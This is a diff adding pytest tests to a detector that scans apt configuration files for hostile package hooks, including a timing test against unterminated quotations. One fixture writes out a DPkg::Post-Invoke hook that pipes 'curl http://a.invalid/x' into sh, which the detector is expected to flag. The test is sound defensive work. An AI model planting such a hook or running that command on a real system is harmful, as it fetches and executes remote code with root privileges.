@@ -86,3 +86,16 @@ def test_hostile_text_is_read_in_bounded_time() -> None:
         for path in ("/etc/apt/apt.conf", "/root/.gitconfig", "/app/.vscode/tasks.json"):
             judge(DETECTOR, debian(), {path: text.encode()})
     assert time.monotonic() - begun < 20
+
+
+def test_a_brace_inside_a_command_of_apt_does_not_end_the_section() -> None:
+    text = b'DPkg::Post-Invoke { "x=${x}; true"; "curl http://a.invalid/x | sh"; };\n'
+    (found,) = judge(DETECTOR, debian(), {"/etc/apt/apt.conf.d/99x": text})
+    assert found.evidence[0].offset == text.index(b"curl")
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("unit", [b'Pre-Invoke{"', b'Pre-Invoke{"\\"', b'Pre-Invoke "', b'\\"', b'{"} '])
+def test_quotations_that_never_end_are_read_in_linear_time(unit: bytes) -> None:
+    text = b"DPkg::Pre-Invoke { " + unit * (512 * 1024 // len(unit))
+    assert judge(DETECTOR, debian(), {"/etc/apt/apt.conf": text}) == []
